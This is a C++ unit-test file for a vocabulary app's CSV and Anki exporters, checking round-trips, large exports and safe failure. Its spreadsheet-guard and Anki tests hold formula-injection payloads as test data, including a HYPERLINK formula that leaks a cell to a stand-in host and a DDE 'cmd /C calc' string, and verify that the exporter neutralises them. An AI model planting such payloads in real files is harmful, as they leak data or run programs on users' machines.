// Export of word lists: CSV read back by Python's csv module gives every
// word and translation byte for byte, hostile content included, and so do
// 100,000 rows; the Anki file keeps each note on one line.
#include "wordstore/word_export.h"

#include <gtest/gtest.h>

#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "base/code_page.h"
#include "testing/scoped_mount.h"
#include "testing/temp_dir.h"
#include "testing/word_fixture.h"
#include "wordstore/word_forms.h"

namespace quorvo {
namespace {

std::string FromHex(const std::string& hex) {
  std::string out;
  for (size_t i = 0; i + 1 < hex.size(); i += 2)
    out.push_back(static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16)));
  return out;
}

// The rows Python's csv module reads from the file (opened as Excel would
// be told: UTF-8 with its byte-order mark), each field as UTF-8.
// With a script, the rows that script prints in the same shape.
std::vector<std::vector<std::string>> ReadWithPython(const std::string& path, const std::string& script = {}) {
  std::string command = script.empty() ? "python3 -c \"import csv,sys\n"
                                         "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                                         "    for row in csv.reader(f):\n"
                                         "        print(' '.join(x.encode('utf-8').hex() or '-' for x in row))\" '" +
                                             path + "'"
                                       : "/usr/bin/python3 '" + script + "' '" + path + "'";
  struct Closer {
    void operator()(FILE* f) const { pclose(f); }
  };
  std::unique_ptr<FILE, Closer> pipe(popen(command.c_str(), "r"));
  std::vector<std::vector<std::string>> rows;
  if (!pipe) return rows;
  std::string line;
  for (int c; (c = std::fgetc(pipe.get())) != EOF;) {
    if (c != '\n') {
      line.push_back(static_cast<char>(c));
      continue;
    }
    std::vector<std::string> fields;
    size_t start = 0;
    while (start <= line.size()) {
      size_t blank = line.find(' ', start);
      std::string field = line.substr(start, blank == std::string::npos ? std::string::npos : blank - start);
      fields.push_back(field == "-" ? "" : FromHex(field));
      if (blank == std::string::npos) break;
      start = blank + 1;
    }
    rows.push_back(fields);
    line.clear();
  }
  return rows;
}

std::string FileBytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

TEST(WordExportTest, HostileRowsRoundTripThroughPythonsCsvReader) {
  testing::TempDir dir;
  // (word, translation) in UTF-8; GBK holds every character.
  const std::vector<std::pair<std::string, std::string>> hostile = {
      {"plain", "n. 苹果"},
      {"say \"hi\"", "v. 说“你好”, 打招呼"},
      {"a,b", "逗号,分开,三段"},
      {"tab\there", "制表\t符"},
      {"lines", "n. 丈夫；先生\nv. 结婚\r\nadj. 第三行\r"},
      {"gbk", "堃喆镕〇﹏"},
      {"", ""},
      {"\"", "\"\""},
  };
  std::vector<ExportRow> rows;
  for (const auto& [word, trans] : hostile) rows.push_back({Gbk(word), "", Gbk(trans), Gbk("不会"), "12", Gbk(trans)});
  std::string path = dir.File("words.csv");
  ASSERT_TRUE(WriteExport(path, rows, ExportFormat::Csv, "main_word").ok());
  EXPECT_EQ(0u, FileBytes(path).rfind("\xEF\xBB\xBFword,phonetic,translation,known,hot,sentence,forms\r\n", 0));

  auto read = ReadWithPython(path);
  ASSERT_EQ(hostile.size() + 1, read.size());
  EXPECT_EQ((std::vector<std::string>{"word", "phonetic", "translation", "known", "hot", "sentence", "forms"}),
            read[0]);
  for (size_t i = 0; i < hostile.size(); ++i) {
    SCOPED_TRACE(hostile[i].first);
    EXPECT_EQ((std::vector<std::string>{hostile[i].first, "", hostile[i].second, "不会", "12", hostile[i].second, ""}),
              read[i + 1]);
  }
}

TEST(WordExportTest, AHundredThousandRowsComeBackWhole) {
  testing::TempDir dir;
  std::vector<ExportRow> rows;
  for (int i = 0; i < 100000; ++i) {
    std::string word = "w" + std::to_string(i);
    rows.push_back({word, "", Gbk("n. 第" + std::to_string(i) + "个，\n\"引号\""), Gbk(i % 3 ? "不会" : "会"),
                    std::to_string(i % 977)});
  }
  std::string path = dir.File("big.csv");
  ASSERT_TRUE(WriteExport(path, rows, ExportFormat::Csv, "big").ok());
  auto read = ReadWithPython(path);
  ASSERT_EQ(100001u, read.size());
  for (int i : {0, 1, 2, 54321, 99999}) {
    SCOPED_TRACE(i);
    EXPECT_EQ((std::vector<std::string>{"w" + std::to_string(i), "", "n. 第" + std::to_string(i) + "个，\n\"引号\"",
                                        i % 3 ? "不会" : "会", std::to_string(i % 977), "", ""}),
              read[static_cast<size_t>(i) + 1]);
  }
}

// What a spreadsheet is handed for each cell: a text that it would run as a
// formula starts with "'", numbers of the known and hot columns stay numbers.
TEST(WordExportTest, CellsASpreadsheetWouldRunAreGuarded) {
  struct Case {
    const char* cell;        // written in the word, translation or hot column
    const char* asText;      // what the reader gets for a text column
    const char* asHotValue;  // what the reader gets for the hot column
  } const cases[] = {
      {"=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")", "'=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")",
       "'=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")"},
      {"+86 10", "'+86 10", "'+86 10"},
      {"-5", "'-5", "-5"},
      {"-1+2", "'-1+2", "'-1+2"},
      {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1", "'\t=1"},
      {"\r=1", "'\r=1", "'\r=1"},
      {"'tis", "''tis", "''tis"},
      {"12", "12", "12"},
      {"a=b", "a=b", "a=b"},
      {" =1", " =1", " =1"},
      {"", "", ""},
  };
  testing::TempDir dir;
  std::vector<ExportRow> rows;
  for (const Case& c : cases) rows.push_back({Gbk(c.cell), "", Gbk(c.cell), Gbk("会"), Gbk(c.cell)});
  std::string path = dir.File("guard.csv");
  ASSERT_TRUE(WriteExport(path, rows, ExportFormat::Csv, "b").ok());
  auto read = ReadWithPython(path);
  ASSERT_EQ(std::size(cases) + 1, read.size());
  for (size_t i = 0; i < std::size(cases); ++i) {
    SCOPED_TRACE(cases[i].cell);
    EXPECT_EQ((std::vector<std::string>{cases[i].asText, "", cases[i].asText, "会", cases[i].asHotValue, "", ""}),
              read[i + 1]);
  }
}

// The flash-card file read the way Anki reads it: header lines first ("#key:
// value"), then lines starting with "#" are comments, fields split as RFC
// 4180 with a tab (Python's csv module), HTML decoded, tags split at every
// Unicode space. Prints the deck, then per note its fields and tag count.
constexpr char kAnkiTextReader[] = R"PY(
import csv, html, io, re, sys
data = open(sys.argv[1], encoding='utf-8', newline='').read()
lines = data.split('\n')
headers = {}
while lines and lines[0].startswith('#') and ':' in lines[0]:
    key, value = lines.pop(0)[1:].split(':', 1)
    headers[key] = value
assert headers['separator'] == 'tab' and headers['html'] == 'true' and headers['notetype'] == 'Basic'
columns = headers['columns'].split('\t')
tags_at = int(headers['tags column']) - 1
assert columns[:2] == ['Front', 'Back'] and columns[tags_at] == 'Tags'
body = '\n'.join(l for l in lines if not l.startswith('#'))
print(headers['deck'].encode().hex() or '-')
for row in csv.reader(io.StringIO(body), delimiter='\t'):
    assert len(row) == len(columns), row
    fields = [html.unescape(re.sub('<br>', '\n', f)) for f in row]
    tags = row[tags_at].split()
    print(' '.join(x.encode().hex() or '-' for x in
          [fields[0], fields[1], fields[columns.index('音标')], fields[columns.index('例句')],
           tags[0] if tags else '', str(len(tags))]))
)PY";

std::vector<std::vector<std::string>> ReadAsAnki(const std::string& script, const std::string& path) {
  std::ofstream(script) << kAnkiTextReader;
  return ReadWithPython(path, script);
}

TEST(WordExportTest, AnkiReadsEveryHostileFieldAndOneTagBack) {
  const std::string longTranslation(10000, 'x');
  const std::vector<std::array<std::string, 4>> hostile = {
      // word, phonetic, translation, sentence (UTF-8)
      {"#hash", "", "#不是注释", "#hash starts this one."},
      {"\"quoted", "\"", "\"开头的引号\"\t和制表", "She said \"quoted\"\tthen left."},
      {"<b>bold</b>", "/ˈbəʊld/", "粗体 & <i>斜</i>", "A <b>bold</b> & brave move."},
      {"=cmd|' /C calc'!A0", "", "=HYPERLINK(\"http://x\",\"点我\")", ""},
      {"emoji😀", "", "笑脸😀；堃喆镕〇", ""},
      {"lines", "", "n. 丈夫\nv. 结婚\n第三行", "One line\nand another."},
      {"long", "", longTranslation, ""},
      {"", "", "", ""},
  };
  const std::vector<std::pair<std::string, std::string>> banks = {
      // bank name (UTF-8), the one tag Anki should read
      {"my bank", "my_bank"},
      {"\"quoted bank", "_quoted_bank"},
      {"全角\u3000空格", "全角_空格"},
      {"#hash\tbank", "#hash_bank"},
      {"nbsp\u00a0thin\u2009ideo", "nbsp_thin_ideo"},
  };
  std::vector<ExportRow> rows;
  for (const auto& [word, phonetic, trans, sentence] : hostile)
    rows.push_back({Gbk(word), Gbk(phonetic), Gbk(trans), "", "", Gbk(sentence)});
  testing::TempDir dir;
  for (const auto& [bank, tag] : banks) {
    SCOPED_TRACE(bank);
    std::string path = dir.File("cards.txt");
    ASSERT_TRUE(WriteExport(path, rows, ExportFormat::AnkiTsv, Gbk(bank)).ok());
    auto read = ReadAsAnki(dir.File("anki_reader.py"), path);
    ASSERT_EQ(hostile.size() + 1, read.size());
    EXPECT_EQ(std::vector<std::string>{bank == "#hash\tbank" ? "#hash bank" : bank}, read[0]);
    for (size_t i = 0; i < hostile.size(); ++i) {
      SCOPED_TRACE(i);
      EXPECT_EQ((std::vector<std::string>{hostile[i][0], hostile[i][2], hostile[i][1], hostile[i][3], tag, "1"}),
                read[i + 1]);
    }
  }
  EXPECT_EQ(ExportFormat::AnkiTsv, ExportFormatForName("/x/cards.TXT"));
  EXPECT_EQ(ExportFormat::AnkiTsv, ExportFormatForName("cards.tsv"));
  EXPECT_EQ(ExportFormat::Csv, ExportFormatForName("cards.csv"));
  EXPECT_EQ(ExportFormat::Csv, ExportFormatForName("txt"));
}

// A family row carries its forms seen, as the word list's tooltip lists
// them, in the last column of the CSV and of the Anki file; others none.
TEST(WordExportTest, FamilyRowsCarryTheirFormsInTheLastColumn) {
  testing::TempDir dir;
  WordDatabase db;
  ASSERT_TRUE(db.Open(dir.File("forms.db")));
  testing::CreateBanks(db, {"novel"});
  for (const char* word : {"run", "leaf", "cat"}) testing::PutWord(db, "novel", word, "t", 1);
  ASSERT_TRUE(
      StoreWordForms(db, "novel", {{"run", "runs", 3, "run"}, {"run", "ran", 2, "run"}, {"leaf", "leaves", 1, "leave"}})
          .ok());
  auto rows = ReadExportRows(db, "novel");
  ASSERT_TRUE(rows.ok());
  const std::string csv = FormatExport(*rows, ExportFormat::Csv, "novel");
  const std::string anki = FormatExport(*rows, ExportFormat::AnkiTsv, "novel");
  EXPECT_NE(std::string::npos, anki.find("\n#columns:Front\tBack\tTags\t音标\t例句\t词形\n"));
  const char* const lines[][2] = {
      // CSV line, Anki line
      {"\nrun,,t,不会,1,,runs 3、ran 2\r\n", "\nrun\tt\tnovel\t\t\truns 3、ran 2\n"},
      {"\nleaf,,t,不会,1,,leaves 1（计入 leave）\r\n", "\nleaf\tt\tnovel\t\t\tleaves 1（计入 leave）\n"},
      {"\ncat,,t,不会,1,,\r\n", "\ncat\tt\tnovel\t\t\t\n"}};
  for (const auto& [csvLine, ankiLine] : lines) {
    EXPECT_NE(std::string::npos, csv.find(csvLine)) << csvLine;
    EXPECT_NE(std::string::npos, anki.find(ankiLine)) << ankiLine;
  }
}

// An export that cannot be written whole says why and leaves the file that
// was there as it was: a full disk, a folder that may not be written, no
// folder at all.
TEST(WordExportTest, AFailedExportSaysWhyAndLeavesTheEarlierFileWhole) {
  testing::TempDir dir;
  EXPECT_EQ(StatusCode::kNotFound, WriteExport(dir.File("no/such/folder.csv"), {}, ExportFormat::Csv, "b").code());

  const std::vector<ExportRow> few = {{"apple", "", Gbk("苹果"), Gbk("会"), "3"}};
  std::vector<ExportRow> many(20000, {"abandonment", "/əˈbændənmənt/", Gbk("放弃；抛弃；放纵"), Gbk("不会"), "12"});
  const std::string earlier = FormatExport(few, ExportFormat::Csv, "b");
  struct Case {
    const char* name;
    testing::ScopedMount (*mount)(const std::string& folder);
    StatusCode expected;
  };
  const Case cases[] = {
      {"full disk", [](const std::string& f) { return testing::ScopedMount::Tmpfs(f, 64 * 1024); },
       StatusCode::kDiskFull},
      {"read-only folder", [](const std::string& f) { return testing::ScopedMount::ReadOnly(f); },
       StatusCode::kReadOnly},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    testing::TempDir outer;
    std::string folder = outer.File("out");
    std::filesystem::create_directory(folder);
    std::string file = folder + "/words.csv";
    std::optional<testing::ScopedMount> mount;
    if (c.expected == StatusCode::kDiskFull) {
      mount.emplace(c.mount(folder));
      if (!mount->mounted()) GTEST_SKIP() << mount->why();
      ASSERT_TRUE(WriteExport(file, few, ExportFormat::Csv, "b").ok());
    } else {
      ASSERT_TRUE(WriteExport(file, few, ExportFormat::Csv, "b").ok());
      mount.emplace(c.mount(folder));
      if (!mount->mounted()) GTEST_SKIP() << mount->why();
    }
    EXPECT_EQ(c.expected, WriteExport(file, many, ExportFormat::Csv, "b").code());
    std::ifstream in(file, std::ios::binary);
    EXPECT_EQ(earlier, std::string(std::istreambuf_iterator<char>(in), {}));
    // Nothing half-written is left beside it.
    size_t entries = 0;
    for ([[maybe_unused]] auto& e : std::filesystem::directory_iterator(folder)) ++entries;
    EXPECT_EQ(1u, entries);
  }
}

}  // namespace
}  // namespace quorvo
